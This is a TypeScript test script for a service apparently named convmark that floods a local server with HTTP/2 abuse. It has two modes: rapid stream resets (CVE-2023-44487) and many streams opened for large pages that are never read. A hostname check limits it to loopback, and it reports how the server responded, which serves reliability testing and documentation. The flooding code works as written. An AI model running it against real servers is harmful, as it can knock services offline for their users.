/**
 * HTTP/2 abuse against a running convmark (loopback only), for docs/reliability.md and the tests:
 *
 *   npx tsx scripts/h2-attack.ts rapid-reset  --url http://127.0.0.1:8080 [--sessions 4] [--seconds 10]
 *   npx tsx scripts/h2-attack.ts non-reading  --url http://127.0.0.1:8080 [--sessions 4] [--streams 1000] [--owner big] [--page-size 1000] [--seconds 10]
 *
 * rapid-reset opens streams (ListConversations requests) and resets each one right away, as fast as
 * the session allows (CVE-2023-44487). non-reading opens many streams asking for a large page and
 * never reads the responses. Sessions the server ends are reopened until --seconds have passed.
 * Prints one JSON line: what was sent and how the server answered.
 */
import * as http2 from "node:http2";
import { parseArgs } from "node:util";

const { positionals, values } = parseArgs({
  allowPositionals: true,
  options: {
    url: { type: "string", default: "http://127.0.0.1:8080" },
    sessions: { type: "string", default: "4" },
    streams: { type: "string", default: "1000" },
    seconds: { type: "string", default: "10" },
    owner: { type: "string", default: "big" },
    "page-size": { type: "string", default: "1000" },
  },
});
const mode = positionals[0];
if (mode !== "rapid-reset" && mode !== "non-reading") {
  console.error("usage: h2-attack.ts rapid-reset|non-reading --url URL [--sessions N] [--streams N] [--seconds N]");
  process.exit(2);
}
const url = new URL(values.url);
if (!["127.0.0.1", "localhost", "[::1]"].includes(url.hostname)) {
  console.error("refusing to attack anything but loopback");
  process.exit(2);
}
const until = Date.now() + Number(values.seconds) * 1000;
const stats = { mode, sessionsOpened: 0, sessionsEndedByServer: 0, goaways: 0, streamsOpened: 0, resetsSent: 0, refused: 0 };
const body = JSON.stringify({ ownerUserId: values.owner, pageSize: Number(values["page-size"]) });
const headers = { ":method": "POST", ":path": "/convmark.v1.MarkService/ListConversations", "content-type": "application/json" };

function open(): http2.ClientHttp2Session {
  stats.sessionsOpened++;
  const s = http2.connect(url, { settings: { initialWindowSize: 65535 }, peerMaxConcurrentStreams: 100_000 });
  s.on("error", () => {});
  s.on("goaway", () => stats.goaways++);
  return s;
}

async function rapidReset(): Promise<void> {
  while (Date.now() < until) {
    const s = open();
    await new Promise<void>((resolve) => {
      s.once("close", () => {
        stats.sessionsEndedByServer++;
        resolve();
      });
      const burst = (): void => {
        if (s.destroyed || s.closed || Date.now() >= until) {
          s.destroy();
          return;
        }
        for (let i = 0; i < 50; i++) {
          let st: http2.ClientHttp2Stream;
          try {
            st = s.request(headers);
          } catch {
            return;
          }
          stats.streamsOpened++;
          st.on("error", () => {});
          st.end(body);
          st.close(http2.constants.NGHTTP2_CANCEL);
          stats.resetsSent++;
        }
        setImmediate(burst);
      };
      s.once("connect", burst);
    });
  }
}

async function nonReading(): Promise<void> {
  const n = Number(values.streams);
  while (Date.now() < until) {
    const s = open();
    await new Promise<void>((resolve) => {
      const done = (): void => {
        clearTimeout(timer);
        resolve();
      };
      const timer = setTimeout(() => {
        s.destroy();
      }, Math.max(0, until - Date.now()));
      s.once("close", () => {
        if (Date.now() < until) stats.sessionsEndedByServer++;
        done();
      });
      s.once("connect", () => {
        for (let i = 0; i < n && !s.destroyed; i++) {
          try {
            const st = s.request(headers);
            stats.streamsOpened++;
            st.on("error", () => {});
            st.on("close", () => {
              if (st.rstCode === http2.constants.NGHTTP2_REFUSED_STREAM) stats.refused++;
            });
            st.pause(); // never read: no WINDOW_UPDATE, responses stay buffered in the server
            st.end(body);
          } catch {
            break;
          }
        }
      });
    });
  }
}

await Promise.all(Array.from({ length: Number(values.sessions) }, () => (mode === "rapid-reset" ? rapidReset() : nonReading())));
console.log(JSON.stringify(stats));
process.exit(0);
